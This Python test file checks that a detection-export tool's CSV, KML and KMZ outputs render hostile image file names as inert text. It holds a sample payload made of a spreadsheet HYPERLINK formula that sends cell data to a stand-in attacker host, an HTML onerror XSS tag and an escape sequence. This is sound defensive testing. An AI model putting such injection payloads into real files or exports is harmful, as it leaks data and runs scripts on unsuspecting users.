"""Exports carry hostile file names as inert text: no CSV formula, no HTML in KML."""

from __future__ import annotations

import csv
import datetime as dt
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from sitewatch.detect import Detection, VehicleClass
from sitewatch.geo import OrientedBoxPx
from sitewatch.report import write_detections
from sitewatch.report.features import ExportFeature
from sitewatch.report.formats import ExportFormat, write_export

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")<img src=x onerror=alert(1)>\x1b[2J.tif'


def _feature(image: str) -> ExportFeature:
    return ExportFeature(
        kind="detection", site="depot", date_from=dt.date(2014, 5, 30),
        date_to=dt.date(2014, 6, 11), label="armored_vehicle", score=0.9, image=image,
        scene_sha256="a" * 64, x_px=-3.5, y_px=10.0, ring_px=((0.0, 0.0), (1.0, 0.0), (1.0, 1.0)),
        point_lonlat=(39.5, 47.2), ring_lonlat=None,
    )


def test_csv_export_neutralises_a_formula_file_name(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write_export([_feature(HOSTILE)], ExportFormat.CSV, out)
    (row,) = csv.DictReader(out.read_text(encoding="utf-8").splitlines())
    assert row["image"] == "'" + HOSTILE
    assert row["x_px"] == "-3.5" and row["lon"] == "39.5"  # numbers stay numbers


def test_detections_csv_neutralises_a_formula_file_name(tmp_path: Path) -> None:
    box = OrientedBoxPx(cx_px=10.0, cy_px=10.0, width_px=8.0, height_px=4.0, angle_rad=0.0)
    detection = Detection(box=box, label=VehicleClass.ARMORED_VEHICLE, score=0.8)
    out = tmp_path / "d.csv"
    write_detections(out, [("@SUM(A1:A9).png", [detection])])
    (row,) = csv.DictReader(out.read_text(encoding="utf-8").splitlines())
    assert row["image"] == "'@SUM(A1:A9).png"


@pytest.mark.parametrize("export_format", [ExportFormat.KML, ExportFormat.KMZ])
def test_kml_descriptions_carry_no_html(tmp_path: Path, export_format: ExportFormat) -> None:
    import zipfile

    out = tmp_path / f"out.{export_format.value}"
    write_export([_feature(HOSTILE)], export_format, out)
    if export_format is ExportFormat.KMZ:
        with zipfile.ZipFile(out) as archive:
            text = archive.read("doc.kml").decode()
    else:
        text = out.read_text(encoding="utf-8")
    tree = ET.fromstring(text)  # still well-formed XML (the escape character is gone)
    namespace = {"k": "http://www.opengis.net/kml/2.2"}
    description = tree.find(".//k:Placemark/k:description", namespace)
    assert description is not None and description.text is not None
    assert "<img" not in description.text and "&lt;img src=x" in description.text
    assert "\x1b" not in text
